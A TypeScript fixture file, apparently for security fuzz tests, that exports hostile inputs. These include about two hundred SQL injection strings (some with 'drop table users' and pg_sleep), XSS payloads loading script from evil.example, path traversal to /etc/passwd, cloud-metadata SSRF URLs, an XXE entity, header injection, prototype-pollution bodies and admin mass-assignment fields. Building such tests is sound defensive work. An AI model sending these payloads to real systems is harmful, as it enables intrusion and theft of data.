/** A sequence that advances if any of these texts is run as SQL, even if rolled back. */
export const SQL_MARKER = 'attack_marker';

const MARK = `(select nextval('${SQL_MARKER}'))`;
const MARK_UNQUOTED = `(select nextval($$${SQL_MARKER}$$))`;
const SLOW_MARK = `(select nextval($$${SQL_MARKER}$$) from pg_sleep(20))`;

/** Ways to break out of a surrounding statement and close it again. */
const SQL_FRAMES: readonly (readonly [opening: string, closing: string])[] = [
  ['', ''],
  ["'", ''],
  ["'", '--'],
  ["' ", " or '1'='1"],
  ["'||", "||'"],
  ["' || ", " || '"],
  ["\\'", '--'],
  ["''", '--'],
  ["')", '--'],
  ["'))", '--'],
  ["')))", '--'],
  ['"', '--'],
  ['")', '--'],
  ['";', '--'],
  ["';", '--'],
  ["');", '--'],
  ['1;', '--'],
  ['1);', '--'],
  ['1 or ', ''],
  ['1) or (', ''],
  ['-1 union select ', '--'],
  ["' union select ", '--'],
  ["' union all select null,null,", '--'],
  ['1,', ''],
  ['1 limit ', ''],
  ['case when true then ', ' end'],
  ['%27 or ', '--'],
  ['%2527 or ', '--'],
  ['\u02bc or ', '--'],
  ['\uff07 or ', '--'],
  ['$$;', '--'],
  ['/*', '*/'],
  ["'/**/or/**/", '/**/--'],
  ["'\n;", '\n--'],
  ['`', '`'],
  ['{', '}'],
  ['\\', ''],
  ['%', '%'],
  ["E'\\'", '--'],
  ["to_tsquery('", "')"],
  ['a & ! | <-> :* ', ''],
];

const SQL_BODIES = [
  MARK,
  MARK_UNQUOTED,
  SLOW_MARK,
  `${MARK_UNQUOTED} is not null`,
  `1=1; select ${MARK_UNQUOTED}; drop table users`,
];

/** Two hundred texts, each of which advances the sequence if run. */
export const SQL_INJECTIONS: readonly string[] = SQL_FRAMES.flatMap(([opening, closing]) =>
  SQL_BODIES.map((body) => `${opening}${body}${closing}`),
);

export const MARKUP: readonly string[] = [
  '<script>alert(1)</script>',
  '"><svg onload=alert(1)>',
  "'-alert(1)-'",
  '<img src=x onerror=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  'javascript:alert(1)',
  '{{7*7}}$' + '{7*7}<%= 7*7 %>#{7*7}',
  '</title><script src=//evil.example/x.js></script>',
];

export const PATHS: readonly string[] = [
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '/etc/passwd',
  'file:///etc/passwd',
  'legacy/../../secret',
  '....//....//etc/passwd',
  '.',
  '..',
  '%2e%2e%2f',
  'http://169.254.169.254/latest/meta-data/',
  'http://127.0.0.1:5432/',
];

/** Property names that every JavaScript object has. */
export const PROTOTYPE_KEYS: readonly string[] = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'valueOf',
  'hasOwnProperty',
  '__defineGetter__',
  'then',
];

export const ODD_TEXTS: readonly string[] = [
  '',
  ' ',
  '\t\r\n',
  'a\u0000b',
  '\u0000',
  '\ud800',
  'a\udfff',
  '\u202egnp.exe',
  '\ufeffx',
  '\u200b',
  'ſ\u212aİı',
  'e\u0301'.repeat(40),
  '👨‍👩‍👧‍👦🔥',
  '\r\nBcc: everybody@evil.example',
  '\r\nSet-Cookie: a=b',
  '%s%n%x%d',
  'null',
  'undefined',
  'NaN',
  'Infinity',
  '-1',
  '1e309',
  '0x10',
  '1.5',
  '99999999999999999999',
  'true',
  '2026-02-30',
  '0000-00-00',
  '9999-99-99',
  '9999-12-31',
  '-271821-04-20',
  '* * * * *',
  '*/0 * * * *',
  '=HYPERLINK("http://evil.example")',
  'x'.repeat(300),
  'x'.repeat(5_000),
  '('.repeat(500),
  '1,'.repeat(1_000),
  'a@'.repeat(200),
];

export const ODD_NUMBERS: readonly number[] = [
  0,
  -0,
  -1,
  0.5,
  -1.5,
  2 ** 31 - 1,
  2 ** 31,
  2 ** 53 - 1,
  2 ** 53,
  2 ** 63,
  2 ** 64,
  1e21,
  1e308,
  5e-324,
  -1e308,
];

export const ODD_VALUES: readonly unknown[] = [
  null,
  true,
  false,
  [],
  [[]],
  {},
  [null],
  ['a', 'b'],
  { $ne: '' },
  { $gt: 0 },
  { length: 5 },
  { toString: 'x', valueOf: 1 },
  { id: { id: { id: 1 } } },
  Array.from({ length: 200 }, (_, i) => i),
  Array.from({ length: 120 }, () => 'x'),
  Object.fromEntries(Array.from({ length: 200 }, (_, i) => [`k${i}`, i])),
];

/** Fields an attacker might try to add. */
export const EXTRA_FIELDS: Readonly<Record<string, unknown>> = {
  id: '00000000-0000-4000-8000-000000000000',
  role: 'admin',
  isActive: true,
  isAdmin: true,
  email: 'evil@evil.example',
  passwordHash: '$argon2id$x',
  createdAt: '1970-01-01T00:00:00Z',
  tokenHash: 'x',
  version: 0,
  toString: 'x',
};

/** Bodies with invalid or bizarre JSON. */
export const RAW_BODIES: readonly string[] = [
  '',
  ' ',
  'null',
  'true',
  '0',
  '"text"',
  '[]',
  '[{}]',
  '{',
  '{"a":',
  "{'a':1}",
  '{"a":1,}',
  '{"a":1}{"b":2}',
  '\ufeff{}',
  '{"a":1e999}',
  '{"a":NaN}',
  '{"a":"\\ud800"}',
  '{"a":"\\u0000"}',
  '{"__proto__":{"isAdmin":true}}',
  '{"constructor":{"prototype":{"isAdmin":true}}}',
  `${'['.repeat(30_000)}${']'.repeat(30_000)}`,
  `${'{"a":'.repeat(10_000)}1${'}'.repeat(10_000)}`,
  `{"a":"${'x'.repeat(70_000)}"}`,
  `{${Array.from({ length: 4_000 }, (_, i) => `"k${i}":${i}`).join()}}`,
  '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  'email=a&password=b',
];
